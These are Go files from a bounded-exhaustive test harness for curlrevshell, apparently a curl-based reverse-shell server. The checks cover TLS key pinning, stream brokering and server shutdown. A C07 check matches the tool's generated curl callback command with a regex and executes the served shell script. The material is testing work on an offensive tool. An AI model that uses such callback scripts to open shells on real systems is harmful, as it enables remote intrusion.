		r.Set("files_named_like_fingerprints_in_cwd", nPlanted)
	}
	/* net/http initialises DefaultTransport lazily (its HTTP/2 set-up
	fills TLSClientConfig on first use or Clone); have that happen before
	the snapshot, it is the library's doing. */
	http.DefaultTransport.(*http.Transport).Clone()
	before := c13Snapshot()
	checkDefaults := func(where string) {
		if after := c13Snapshot(); !reflect.DeepEqual(before, after) {
			r.Violate(ev.Violation{Signature: "defaults-changed", What: fmt.Sprintf("%s: the process's default HTTP client settings changed: before %+v after %+v", where, before, after), Kind: "c13", Replay: map[string]string{"where": where}})
			before = after
		}
	}
	id := func() string { w.n++; return fmt.Sprintf("c%d", w.n) }

	/* (a) */
	var classes []string
	for k := range w.pins {
		classes = append(classes, k)
	}
	for _, srv := range []string{"A", "B", "C", "I", "U", "S", "L"} {
		for _, pc := range classes {
			c := c13Call{Server: srv, Pin: pc}
			i := id()
			vd, err, sh := w.run(c, i, nil)
			w.judge(r, "single call", map[string]any{"calls": []c13Call{c}}, c, i, vd, err, sh)
			checkDefaults(fmt.Sprintf("after %+v", c))
			r.Evaluations++
			r.Traces++
		}
	}
	r.Sample(6, map[string]any{"single": c13Call{Server: "C", Pin: "pinA"}, "expected": "ok (the chain's second certificate carries key A)"})

	/* (a') the same verdicts under other process-wide HTTP settings. */
	c13Proxied(r, w, id)
	c13Program(r, w, id)
	checkDefaults("after the proxied calls (the harness restored what it had changed)")

	/* (a') the server named in other ways than by its IP literal. */
	for _, host := range []string{"localhost", "localhost.", "LOCALHOST", "LocalHost."} {
		if as, err := net.LookupHost(host); nil != err || 0 == len(as) {
			r.Inc("host_spellings_this_machine_cannot_resolve", 1)
			continue
		}
		for _, c := range []c13Call{{Server: "A", Pin: "pinA", Host: host}, {Server: "B", Pin: "pinA", Host: host}, {Server: "I", Pin: "pinA", Host: host}, {Server: "A", Pin: "not-base64", Host: host}} {
			i := id()
			vd, err, sh := w.run(c, i, nil)
			w.judge(r, "server named "+host, map[string]any{"calls": []c13Call{c}}, c, i, vd, err, sh)
			r.Evaluations++
			r.Traces++
		}
	}

	/* (b) */
	menu := []c13Call{{Server: "A", Pin: "pinA"}, {Server: "B", Pin: "pinA"}, {Server: "B", Pin: "pinB"}, {Server: "A", Pin: "pinB"}, {Server: "A", Pin: "none"}, {Server: "C", Pin: "pinA"}, {Server: "I", Pin: "pinA"}}
	var hists [][]c13Call
	var rec func(cur []c13Call)
	rec = func(cur []c13Call) {
		if len(cur) >= 2 {
			hists = append(hists, append([]c13Call{}, cur...))
		}
		if 3 == len(cur) {
			return
		}
		for _, m := range menu {
			rec(append(cur, m))
		}
	}
	rec(nil)
	for _, h := range hists {
		for _, c := range h {
			i := id()
			vd, err, sh := w.run(c, i, nil)
			w.judge(r, fmt.Sprintf("history %+v", h), map[string]any{"calls": h}, c, i, vd, err, sh)
			r.Evaluations++
		}
		checkDefaults(fmt.Sprintf("after history %+v", h))
		r.Traces++
	}
	r.Set("histories", len(hists))
	r.Sample(6, map[string]any{"history": hists[len(hists)/2]})

	/* (c) */
	nThreads := 2
	cfgSets := [][]c13Call{}
	for i := range menu {
		for j := i; j < len(menu); j++ {
			cfgSets = append(cfgSets, []c13Call{menu[i], menu[j]})
		}
	}
	if !quick {
		nThreads = 3
		for _, t := range [][]c13Call{{menu[0], menu[2], menu[4]}, {menu[0], menu[1], menu[3]}, {menu[0], menu[0], menu[2]}} {
			cfgSets = append(cfgSets, t)
		}
	}
	_ = nThreads
	for _, set := range cfgSets {
		c13Schedules(r, w, set, checkDefaults)
	}
	r.Distinct = r.States
	r.Assume("scheduling points are the callbacks simpleshell.Go makes into the Shell; Output() is evaluated between the configuration of the transport and the request, which is the window that matters")
	r.Assume("a free-running -race pass of the concurrent scenarios runs in the thorough tier")
	if !quick {
		c13Race(r)
	}
}

// c13Schedules explores every interleaving of the calls in set.
func c13Schedules(r *ev.Result, w *c13World, set []c13Call, checkDefaults func(string)) {
	type thread struct {
		call    c13Call
		id      string
		parked  chan string   /* thread -> scheduler: "parked at X" or "done" */
		resume  chan struct{} /* scheduler -> thread */
		verdict string
		err     error
		sh      *c13Shell
		done    bool
		points  int
	}
	var explore func(prefix []int)
	run := func(prefix []int) (choices []int, enabledAt [][]int) {
		ths := make([]*thread, len(set))
		for i, c := range set {
			w.n++
			t := &thread{call: c, id: fmt.Sprintf("c%d", w.n), parked: make(chan string), resume: make(chan struct{})}
			ths[i] = t
			go func() {
				<-t.resume /* Started by the scheduler. */
				t.verdict, t.err, t.sh = w.run(t.call, t.id, func(point string) {
					t.parked <- point
					<-t.resume
				})
				t.parked <- "done"
			}()
		}
		/* Every thread is "parked" at its start. */
		for step := 0; ; step++ {
			var en []int
			for i, t := range ths {
				if !t.done {
					en = append(en, i)
				}
			}
			if 0 == len(en) {
				break
			}
			ch := 0
			if step < len(prefix) {
				ch = prefix[step]
				if ch >= len(en) {
					if r.NViolations() > 0 {
						/* Calls already influence each other (that is
						what was reported): later executions differ
						from the one this prefix was taken from. */
						r.Exhaustive = false
						r.Set("schedule_exploration_cut_short", "executions are not independent of earlier ones")
						ch = 0
					} else {
						ev.Broken("c13: schedule prefix out of range")
					}
				}
			}
			choices = append(choices, ch)
			enabledAt = append(enabledAt, en)
			t := ths[en[ch]]
			t.resume <- struct{}{}
			select {
			case p := <-t.parked:
				if "done" == p {
					t.done = true
				}
				t.points++
			case <-time.After(hworld.Watchdog):
				ev.Broken("c13: a call neither parked nor finished")
			}
			r.Transitions++
		}
		for _, t := range ths {
			w.judge(r, fmt.Sprintf("concurrent calls %+v, schedule %v", set, choices), map[string]any{"calls": set, "schedule": choices}, t.call, t.id, t.verdict, t.err, t.sh)
		}
		checkDefaults(fmt.Sprintf("after concurrent calls %+v, schedule %v", set, choices))
		r.Traces++
		r.Evaluations++
		return
	}
	explore = func(prefix []int) {
		choices, enabledAt := run(prefix)
		r.States += len(choices) - len(prefix)
		for i := len(prefix); i < len(choices); i++ {
			for alt := 1; alt < len(enabledAt[i]); alt++ {
				explore(append(append([]int{}, choices[:i]...), alt))
			}
		}
	}
	explore(nil)
	r.Sample(6, map[string]any{"concurrent": set, "all_schedules": true})
}

// c13Race runs the concurrent scenarios free-running under the race detector.
func c13Race(r *ev.Result) {
	/* Done by the driver script: the -race build of this binary is run with
	"worker c13race"; see run. */
	out, err := runRaceWorker("c13race")
	r.Set("race_pass", strings.TrimSpace(out))
	if nil != err {
		r.Violate(ev.Violation{Signature: "data-race", What: "free-running -race pass of the concurrent calls: " + trunc80(out), Kind: "c13", Replay: map[string]string{"race": "c13race"}})
	}
}

func init() {
	workers["c13race"] = func([]string) int {
		w := c13NewWorld()
		defer w.stop()
		menu := []c13Call{{Server: "A", Pin: "pinA"}, {Server: "B", Pin: "pinB"}, {Server: "A", Pin: "none"}, {Server: "B", Pin: "pinA"}}
		var wg sync.WaitGroup
		for k := 0; k < 20; k++ {
			for i, c := range menu {
				wg.Add(1)
				go func(i, k int, c c13Call) {
					defer wg.Done()
					w.run(c, fmt.Sprintf("r%d-%d", k, i), nil)
				}(i, k, c)
			}
			wg.Wait()
		}
		fmt.Println("c13race: 80 concurrent calls, no race reported")
		return 0
	}
}

func c13Replay(kind string, raw json.RawMessage) int {
	var rp struct {
		Calls    []c13Call `json:"calls"`
		Schedule []int     `json:"schedule"`
	}
	if err := json.Unmarshal(raw, &rp); nil != err || 0 == len(rp.Calls) {
		return 2
	}
	w := c13NewWorld()
	defer w.stop()
	r := ev.New("C13", "quick", "model_checking")
	if nil == rp.Schedule {
		for i, c := range rp.Calls {
			id := fmt.Sprintf("replay%d", i)
			vd, err, sh := w.run(c, id, nil)
			fmt.Printf("call %+v: verdict %s err %v, expected %s\n", c, vd, err, w.expected(c))
			w.judge(r, "replay", nil, c, id, vd, err, sh)
		}
	} else {
		fmt.Printf("concurrent calls %+v: all schedules are re-explored\n", rp.Calls)
		c13Schedules(r, w, rp.Calls, func(string) {})
	}
	if r.NViolations() > 0 {
		for _, x := range r.Violations {
			fmt.Println(x.Signature, "-", x.What)
		}
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// longerPin returns the base64 of the pinned hash followed by extra bytes:
// not a fingerprint.
func longerPin(pin string, extra int) string {
	b, _ := base64.StdEncoding.DecodeString(pin)
	return base64.StdEncoding.EncodeToString(append(b, make([]byte, extra)...))
}
