package checks

import (
	"encoding/json"
	"fmt"
	"os"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/bworld"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C01"] = checkDef{level: "model_checking", run: c01, replay: func(kind string, raw json.RawMessage) int {
		if "c01http" == kind {
			var rp struct {
				Pair []c01Stream `json:"http_seam"`
			}
			if err := json.Unmarshal(raw, &rp); nil != err || 2 != len(rp.Pair) {
				return 2
			}
			r := ev.New("C01", "quick", "model_checking")
			c01HTTPPair(r, rp.Pair[0], rp.Pair[1])
			if r.NViolations() > 0 {
				for _, x := range r.Violations {
					fmt.Println(x.Signature, "-", x.What)
				}
				fmt.Println("reproduced")
				return 1
			}
			fmt.Println("not reproduced")
			return 0
		}
		return brokerReplayFunc(kind, raw)
	}}
}

// c01Profiles: attempts over equal, prefix-related, case-variant and empty
// IDs plus /io, admitted, ended and released in every order, with a probe
// line and a probe chunk wherever something is attached, and shutdown.
func c01Profiles(quick bool) []*bworld.Profile {
	base := bworld.Profile{
		OchCap:   1024,
		MaxLines: 1,
		Outs:     []bworld.OutSpec{{Data: "<chunk#>"}},
		MaxOuts:  1,
		Cancel:   true,
		Shutdown: true,
		Oracles:  []string{"C01"},
	}
	uni := base
	uni.Name = "c01-uni"
	uni.WFail = true /* A stream may also end because writing to it fails. */
	uni.Starts = []bworld.StartSpec{
		{Kind: "in", Key: "k", WKind: 2, Max: 2}, {Kind: "out", Key: "k", Max: 2},
		{Kind: "in", Key: "kk", Max: 1}, {Kind: "out", Key: "kk", Max: 1},
		{Kind: "in", Key: "", Max: 1}, {Kind: "out", Key: "", Max: 1},
	}
	uni.MaxAttempts = 3
	mixed := base
	mixed.Name = "c01-case-io"
	mixed.Starts = []bworld.StartSpec{
		{Kind: "in", Key: "k", Max: 1}, {Kind: "out", Key: "k", Max: 1},
		{Kind: "out", Key: "K", Max: 1}, {Kind: "in", Key: "K", Max: 1},
		{Kind: "io", Max: 2},
	}
	mixed.MaxAttempts = 3
	mixed.Cancel = false
	/* Streams whose pending Read outlives their Connect call and is then
	handed a chunk (net/http leaves such a Read pending until the client sends
	more or goes away). */
	late := base
	late.Name = "c01-late-chunk"
	late.LateOut = true
	late.Starts = []bworld.StartSpec{{Kind: "in", Key: "k", Max: 1}, {Kind: "out", Key: "k", Max: 2}, {Kind: "io", Max: 1}}
	late.MaxAttempts = 3
	/* Shutdown while the terminal has stopped taking notices: attempts made
	then are ended at once all the same (nobody is told, so nothing waits
	for the terminal). */
	stalled := base
	stalled.Name = "c01-shutdown-stalled-terminal"
	stalled.OchCap = 1
	stalled.MaxConsume = 2
	stalled.Cancel = false
	stalled.MaxLines = 0
	stalled.LateStarts = true
	stalled.MaxOuts = 0
	stalled.Starts = []bworld.StartSpec{{Kind: "in", Key: "k", Max: 2}, {Kind: "out", Key: "k", Max: 1}, {Kind: "io", Max: 1}, {Kind: "out", Key: "", Max: 1}}
	stalled.MaxAttempts = 3
	if quick {
		return []*bworld.Profile{&late, &stalled, &uni, &mixed}
	}
	big := uni
	big.Name = "c01-uni-4"
	big.MaxAttempts = 4
	big.Starts = append(append([]bworld.StartSpec{}, uni.Starts...),
		bworld.StartSpec{Kind: "out", Key: "K", Max: 1}, bworld.StartSpec{Kind: "io", Max: 1})
	big.Cancel = false
	mixed.Cancel = true
	return []*bworld.Profile{&late, &stalled, &uni, &mixed, &big}
}

func c01(r *ev.Result, tier string) {
	r.Rule = brokerRule
	budget := 300 * time.Second /* a cap for a loaded machine; an idle run needs about 60 s */
	if !isQuick(tier) {
		budget = 12 * time.Minute
	}
	exploreProfiles(r, budget, c01Profiles(isQuick(tier))...)
	if !isQuick(tier) {
		brokerRacePass(r)
	}
	/* Attempts inside the admission checks at the same moment. */
	if isQuick(tier) {
		c01Stress(r, 7000)
	} else {
		c01Stress(r, 140000)
	}
	/* A tear-down that lasts, with time passing and the system clock set. */
	quietSpell(r, "C01")
	/* The HTTP seam: the same rule through the real handlers. */
	c01HTTP(r)
	/* And the real program told to listen on two addresses. */
	{
		base := ev.Scratch("c01bin-")
		c01RealTwoListen(r, base)
		os.RemoveAll(base)
	}
	r.Rule += "; plus the HTTP seam: every ordered pair of streams over /i/{id}, /o/{id} with ids {k, kk, K, k%2Fx, k%20, %6B} and /io through the real handlers over TLS, with a probe line and a probe chunk"
}
