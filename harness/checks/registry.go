// Package checks holds one bounded-exhaustive check per property.
package checks

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/ev"
)

// A check explores its space and records what it saw in r.
type checkFunc func(r *ev.Result, tier string)

type checkDef struct {
	level  string
	run    checkFunc
	replay func(kind string, raw json.RawMessage) int
}

var registry = map[string]checkDef{}

// workers is how worker subcommands are registered.
var workers = map[string]func(args []string) int{}

// Run runs the named check and returns the exit status.
func Run(prop, tier string) int {
	d, ok := registry[prop]
	if !ok {
		fmt.Fprintf(os.Stderr, "BROKEN: no check for %s\n", prop)
		return 2
	}
	if "quick" != tier && "thorough" != tier {
		fmt.Fprintf(os.Stderr, "BROKEN: tier %q\n", tier)
		return 2
	}
	r := ev.New(prop, tier, d.level)
	/* A check always ends: if some wait inside it never does (a change to
	the program that makes a free-running scenario hang where no watchdog
	was foreseen), what has been found by then is reported at the deadline;
	with nothing found the check says that it is broken.  The limits are far
	beyond what the tiers need on a loaded machine (minutes / an hour). */
	limit := 40 * time.Minute
	if "thorough" == tier {
		limit = 6 * time.Hour
	}
	if s := os.Getenv("VERIF_MAX_WALL_S"); "" != s {
		if n, err := strconv.Atoi(s); nil == err && n > 0 {
			limit = time.Duration(n) * time.Second
		}
	}
	done := make(chan struct{})
	go func() { defer close(done); d.run(r, tier) }()
	select {
	case <-done:
		return r.Finish()
	case <-time.After(limit):
	}
	r.Exhaustive = false
	r.Set("ended_by_the_global_deadline", fmt.Sprintf("the check had not finished after %v; reported is what had been found by then", limit))
	if r.NViolations() > 0 {
		return r.Finish()
	}
	buf := make([]byte, 1<<20)
	fmt.Fprintf(os.Stderr, "BROKEN: check %s %s did not finish within %v and had found nothing; goroutines:\n%s\n", prop, tier, limit, buf[:runtime.Stack(buf, true)])
	return 2
}

// Replay replays a violation artefact.
func Replay(path string) int {
	b, err := os.ReadFile(path)
	if nil != err {
		fmt.Fprintf(os.Stderr, "BROKEN: %s\n", err)
		return 2
	}
	var v struct {
		Property  string          `json:"property"`
		Signature string          `json:"signature"`
		What      string          `json:"what"`
		Kind      string          `json:"kind"`
		Replay    json.RawMessage `json:"replay"`
	}
	if err := json.Unmarshal(b, &v); nil != err {
		fmt.Fprintf(os.Stderr, "BROKEN: %s\n", err)
		return 2
	}
	d, ok := registry[v.Property]
	if !ok || nil == d.replay {
		fmt.Fprintf(os.Stderr, "BROKEN: no replayer for %s\n", v.Property)
		return 2
	}
	fmt.Printf("replaying %s: %s\nrecorded: %s\n", v.Property, v.Signature, v.What)
	return d.replay(v.Kind, v.Replay)
}

// Worker runs a worker subcommand.
func Worker(args []string) int {
	if 0 == len(args) {
		return 2
	}
	f, ok := workers[args[0]]
	if !ok {
		fmt.Fprintf(os.Stderr, "BROKEN: no worker %s\n", args[0])
		return 2
	}
	return f(args[1:])
}

// ncpu is the parallelism used by checks.
func ncpu() int {
	n := runtime.NumCPU()
	if n > 16 {
		n = 16
	}
	if n < 1 {
		n = 1
	}
	return n
}

// parallel runs f(i) for i in [0,n) on ncpu goroutines.
func parallel(n int, f func(i int)) {
	var (
		wg   sync.WaitGroup
		next int
		mu   sync.Mutex
	)
	for w := 0; w < ncpu(); w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				mu.Lock()
				i := next
				next++
				mu.Unlock()
				if i >= n {
					return
				}
				f(i)
			}
		}()
	}
	wg.Wait()
}

// deadline helps a tier stop cleanly at its time cap.
type deadline struct{ t time.Time }

func newDeadline(d time.Duration) deadline { return deadline{time.Now().Add(d)} }
func (d deadline) passed() bool            { return time.Now().After(d.t) }

// isQuick reports whether tier is the quick tier.
func isQuick(tier string) bool { return "quick" == tier }

// runRaceWorker runs a worker subcommand of the -race build of this program
// (built by ./run for the thorough tier) free-running, and fails if the race
// detector reports anything.
func runRaceWorker(args ...string) (string, error) {
	bin := os.Getenv("VERIF_RACE_BIN")
	if "" == bin {
		return "skipped: no -race build available (VERIF_RACE_BIN unset)", nil
	}
	cmd := exec.Command(bin, append([]string{"worker"}, args...)...)
	cmd.Env = append(os.Environ(), "GORACE=halt_on_error=0 exitcode=66")
	out, err := cmd.CombinedOutput()
	s := string(out)
	if strings.Contains(s, "WARNING: DATA RACE") {
		i := strings.Index(s, "WARNING: DATA RACE")
		return s[i:min(len(s), i+1500)], fmt.Errorf("data race")
	}
	if nil != err {
		return s, nil /* A failing scenario is the deterministic pass's business. */
	}
	return s, nil
}
