package checks

/*
 * C12, two scenarios that need the server in-process (its operator channel
 * and its broker are the harness's):
 *
 *  - a stalled terminal at the moment the one shell becomes ready: the
 *    watcher closes the listener and then has to wait to announce it; whatever
 *    the accept loop sees meanwhile, Server.Do must still end with "closed
 *    after shell received" (success), not with a raw accept error;
 *  - a broker that is busy delivering an earlier event when the server starts:
 *    the server must not serve shells before it watches the broker's events,
 *    or the first shell's "connected" event is lost and the listener stays.
 */

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

func c12InProcess(r *ev.Result) {
	c12StalledTerminal(r)
	c12BusyBroker(r)
	r.Add(2)
	r.AddDistinct(2)
}

func c12Viol(r *ev.Result, sig, what string) {
	r.Violate(ev.Violation{Signature: "inprocess/" + sig, What: what, Kind: "c12inproc", Replay: map[string]string{"scenario": sig}})
}

func refusedSoon(addr string) bool {
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		cn, err := net.DialTimeout("tcp", addr, 2*time.Second)
		if nil != err {
			return true
		}
		cn.Close()
	}
	return false
}

func c12StalledTerminal(r *ev.Result) {
	w, err := hworld.Start(hworld.Config{OneShell: true, OchCap: 2})
	if nil != err {
		ev.Broken("%s", err)
	}
	stopped := false
	defer func() {
		if !stopped {
			w.Stop()
		}
	}()
	w.Drain()
	/* Nobody reads the operator channel now. */
	ci, err := w.Dial("")
	if nil != err {
		ev.Broken("%s", err)
	}
	defer ci.Close()
	ci.Send(hworld.Get("/i/k", w.Addr))
	co, err := w.Dial("")
	if nil != err {
		ev.Broken("%s", err)
	}
	defer co.Close()
	co.Send("POST /o/k HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	/* "Input connected" and "Output connected" fill the two slots; the
	ready notice, and then the closing notice, have to wait.  Take them one
	at a time, slowly. */
	seen := ""
	for i := 0; i < 40 && !strings.Contains(seen, "Closing listener"); i++ {
		time.Sleep(100 * time.Millisecond)
		select {
		case cl := <-w.Och:
			seen += cl.Line + "\n"
		default:
		}
	}
	if !strings.Contains(seen, "Shell is ready") {
		c12Viol(r, "stalled-terminal/no-shell", "the shell never became ready with a slow terminal: "+seen)
		return
	}
	if !refusedSoon(w.Addr) {
		c12Viol(r, "stalled-terminal/listener-still-open", "the listener was not closed after the shell became ready (slow terminal)")
	}
	/* The shell ends; the server's Do must report the expected closure. */
	ci.Close()
	co.Close()
	done := make(chan struct{})
	go func() { w.Stop(); close(done) }()
	select {
	case <-done:
		stopped = true
	case <-time.After(hworld.Watchdog):
		c12Viol(r, "stalled-terminal/never-ends", "Server.Do did not return after the one shell ended")
		return
	}
	if nil != w.SrvErr && !errors.Is(w.SrvErr, hsrv.ErrOneShellClosed) && !errors.Is(w.SrvErr, context.Canceled) {
		c12Viol(r, "stalled-terminal/fatal-error", fmt.Sprintf("with a slow terminal at the moment the shell became ready, Server.Do ended with %q: the program would print 'Fatal error' and exit 1", w.SrvErr))
	}
}

func c12BusyBroker(r *ev.Result) {
	ich := make(chan string, 16)
	och := make(chan opshell.CLine, 4096)
	b, err := hworld.NewBroker(ich, och)
	if nil != err {
		ev.Broken("%s", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go b.Do(ctx)
	go func() { /* A terminal that keeps up. */
		for range och {
		}
	}()
	sl := slog.New(slog.NewTextHandler(io.Discard, nil))
	/* A second, slow listener, and an event for it to be slow about. */
	slow := make(chan iobroker.Event)
	b.AddEventListener(slow)
	hctx, hcancel := context.WithCancel(ctx)
	half := make(chan struct{})
	go func() { b.ConnectIn(hctx, sl, "early", io.Discard, "early"); close(half) }()
	time.Sleep(50 * time.Millisecond)
	hcancel()
	<-half /* Its "disconnected" event is now being delivered to slow: the broker's listener set is locked. */
	time.Sleep(50 * time.Millisecond)

	srv, err := hworld.NewServer(sl, "127.0.0.1:0", "", "", ich, och, b, "", nil, false, true)
	if nil != err {
		ev.Broken("%s", err)
	}
	srvDone := make(chan error, 1)
	go func() { srvDone <- srv.Do(ctx) }()
	/* The address: from the notice.  The draining goroutine above eats
	notices, so ask the kernel instead: the listener is the only new
	listening socket; hsrv logs it, but simpler: dial what New bound. */
	addr := c12ListenAddr(srv)
	if "" == addr {
		ev.Broken("cannot find the in-process server's address")
	}
	/* The one shell arrives at once. */
	type res struct {
		c   *hworld.Conn
		err error
	}
	mk := func(raw string) chan res {
		ch := make(chan res, 1)
		go func() {
			c, err := hworld.DialAddr(addr, "")
			if nil == err {
				err = c.Send(raw)
			}
			ch <- res{c, err}
		}()
		return ch
	}
	ri := mk(hworld.Get("/i/k", addr))
	ro := mk("POST /o/k HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	time.Sleep(300 * time.Millisecond)
	/* The slow listener catches up, and keeps up from now on (it must never
	again hold the broker's listener set locked, whatever is delivered to
	it). */
	<-slow
	go func() {
		for range slow {
		}
	}()
	i, o := <-ri, <-ro
	if nil != i.err || nil != o.err {
		c12Viol(r, "busy-broker/no-connect", fmt.Sprintf("the shell's streams could not connect: %v %v", i.err, o.err))
		return
	}
	defer i.c.Close()
	defer o.c.Close()
	/* Fully attached by now or soon; then the listener must close. */
	if !refusedSoon(addr) {
		c12Viol(r, "busy-broker/listener-still-open", "the server served the one shell before it was watching the broker's events: the shell is attached but the listener is never closed")
		return
	}
	i.c.Close()
	o.c.Close()
	select {
	case err := <-srvDone:
		if nil != err && !errors.Is(err, hsrv.ErrOneShellClosed) {
			c12Viol(r, "busy-broker/fatal-error", fmt.Sprintf("Server.Do ended with %q", err))
		}
	case <-time.After(hworld.Watchdog):
		c12Viol(r, "busy-broker/never-ends", "Server.Do did not return after the one shell ended")
	}
}

func c12ListenAddr(s *hsrv.Server) string { return s.VerifAddr() }
