package checks

/*
 * C07 — the script served at /c yields a working, correctly addressed shell.
 * (a) the full product of c2 parameter / c2 header / Host / SNI presence and
 * value classes, over raw TLS; (b) every history of template-file edits up to
 * a depth, two requests after each edit; (c) a long run of scripts for ID
 * freshness; (d) the script actually executed by /bin/sh for every address
 * source that routes back, with a marker round trip.
 */

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

func init() {
	registry["C07"] = checkDef{level: "exploration", run: c07, replay: c07Replay}
}

var (
	c07CurlRE = regexp.MustCompile(`curl -Nsk --pinnedpubkey "sha256//([^"]*)" https://(\S+)/([io])/(\S+)`)
	c07IDRE   = regexp.MustCompile(`^[0-9a-z]+$`)
)

type c07Req struct {
	Param     string `json:"c2_param"` /* Decoded value wanted; "" = absent. */
	ParamWire string `json:"c2_param_wire"`
	Form      bool   `json:"as_post_form"`
	Chunked   bool   `json:"form_body_chunked,omitempty"` /* The form body comes without a Content-Length. */
	Header    string `json:"c2_header"`
	Host      string `json:"host"`       /* "" = HTTP/1.0 without Host. */
	HostWant  string `json:"host_ascii"` /* IDNA-ASCII form expected. */
	SNI       string `json:"sni"`
}

// c07Expected is the reference precedence function.
func c07Expected(q c07Req, listenPort string) string {
	switch {
	case "" != q.Param:
		return q.Param
	case "" != q.Header:
		return q.Header
	case "" != q.Host:
		return q.HostWant
	case "" != q.SNI:
		if "443" == listenPort {
			return q.SNI
		}
		return q.SNI + ":" + listenPort
	}
	return ""
}

func (q c07Req) raw() string {
	var sb strings.Builder
	proto := "HTTP/1.1"
	if "" == q.Host {
		proto = "HTTP/1.0"
	}
	target, body := "/c", ""
	method := "GET"
	if "" != q.ParamWire {
		if q.Form {
			method = "POST"
			body = "c2=" + q.ParamWire
		} else {
			target += "?c2=" + q.ParamWire
		}
	}
	if "" != q.Host && q.Host != q.HostWant {
		/* net/http refuses a non-ASCII Host header; an internationalised
		name reaches the handler through an absolute-form target. */
		target = "https://" + q.Host + target
		fmt.Fprintf(&sb, "%s %s %s\r\nHost: ignored.example\r\n", method, target, proto)
	} else {
		fmt.Fprintf(&sb, "%s %s %s\r\n", method, target, proto)
		if "" != q.Host {
			fmt.Fprintf(&sb, "Host: %s\r\n", q.Host)
		}
	}
	if "" != q.Header {
		fmt.Fprintf(&sb, "c2: %s\r\n", q.Header)
	}
	if "" != body && q.Chunked {
		fmt.Fprintf(&sb, "Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n")
		body = fmt.Sprintf("%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n", 3, body[:3], len(body)-3, body[3:])
	} else if "" != body {
		fmt.Fprintf(&sb, "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n", len(body))
	}
	sb.WriteString("Connection: close\r\n\r\n" + body)
	return sb.String()
}

// c07CheckScript checks a default-template script body.
func c07CheckScript(body []byte, wantAddr, wantPin string) (id string, problem string) {
	ms := c07CurlRE.FindAllSubmatch(body, -1)
	if 2 != len(ms) {
		return "", fmt.Sprintf("%d curl commands found in %q", len(ms), body)
	}
	if "i" != string(ms[0][3]) || "o" != string(ms[1][3]) {
		return "", "the two curl commands are not /i/ then /o/"
	}
	for _, m := range ms {
		if string(m[1]) != wantPin {
			return "", fmt.Sprintf("curl pins %q, the listener serves %q", m[1], wantPin)
		}
		if string(m[2]) != wantAddr {
			return "", fmt.Sprintf("curl calls back to %q, want %q", m[2], wantAddr)
		}
	}
	if !bytes.Equal(ms[0][4], ms[1][4]) {
		return "", fmt.Sprintf("input ID %q and output ID %q differ", ms[0][4], ms[1][4])
	}
	id = string(ms[0][4])
	if !c07IDRE.MatchString(id) {
		return id, fmt.Sprintf("ID %q is not made of URL- and shell-safe characters", id)
	}
	return id, ""
}

func c07(r *ev.Result, tier string) {
	quick := isQuick(tier)
	r.Rule = "(a) product of c2 parameter {absent, plain, needing URL decoding, IPv6 literal} x {query, POST form with Content-Length, POST form in chunks} x c2 header {absent, present} x Host {absent (HTTP/1.0), name, name:port, two IDN names} x SNI {absent, present} on IPv4 and IPv6 listeners and on port 443; " +
		"(b) every history of <=4 (thorough 5) template-file operations {write T1, write T2, write unparsable, write failing-at-execution, remove} with two requests after each; (c) 2000 consecutive scripts; " +
		"(d) the script executed by /bin/sh with real curl for each address source that routes back x {default, custom template}, marker round trip. distinct = distinct requests / histories / executions."
	base := ev.Scratch("c07-")
	defer os.RemoveAll(base)
	v := func(sig, what string, rp any) {
		r.Violate(ev.Violation{Signature: sig, What: what, Kind: "c07", Replay: rp})
	}

	/* (a) address precedence. */
	params := [][2]string{{"", ""}, {"p.example:8443", "p.example:8443"}, {"p.example/x~y", "p.example%2Fx%7Ey"}, {"[2001:db8::1]:8443", "%5B2001:db8::1%5D:8443"}, {"redir.example/static/p\xc3\xa4th", "redir.example%2Fstatic%2Fp%C3%A4th"}}
	hosts := [][2]string{{"", ""}, {"host.example", "host.example"}, {"host.example:8443", "host.example:8443"}, {"[::1]:4444", "[::1]:4444"}, {"[2001:db8::10]", "[2001:db8::10]"}, {"192.0.2.9:8443", "192.0.2.9:8443"}, {"b\xc3\xbccher.example", "xn--bcher-kva.example"}, {"m\xc3\xbcnchen.example:4444", "xn--mnchen-3ya.example:4444"},
		/* Hosts net/http lets through and IDNA conversion refuses: no
		concern of a request that says where to call back (only used with a
		c2 parameter or header). */
		{"xn--0.example", "!"}, {"xn--.example:8443", "!"}}
	seen := map[string]bool{}
	for _, listen := range []string{"127.0.0.1:0", "[::1]:0", "127.0.0.1:443"} {
		w, err := hworld.Start(hworld.Config{Listen: listen})
		if nil != err {
			if strings.Contains(listen, "::1") {
				r.Set("ipv6_loopback_unavailable", err.Error())
				continue
			}
			if strings.HasSuffix(listen, ":443") {
				/* Not root, or someone else has the port. */
				r.Set("port_443_unavailable", err.Error())
				continue
			}
			ev.Broken("%s", err)
		}
		for _, p := range params {
			for _, formKind := range []string{"query", "form", "form-chunked"} {
				form := "query" != formKind
				if form && "" == p[0] {
					continue
				}
				for _, hdr := range []string{"", "h.example:9443", "10.0.0.1:8443/caf\xc3\xa9"} {
					for _, h := range hosts {
						for _, sni := range []string{"", "sni.example"} {
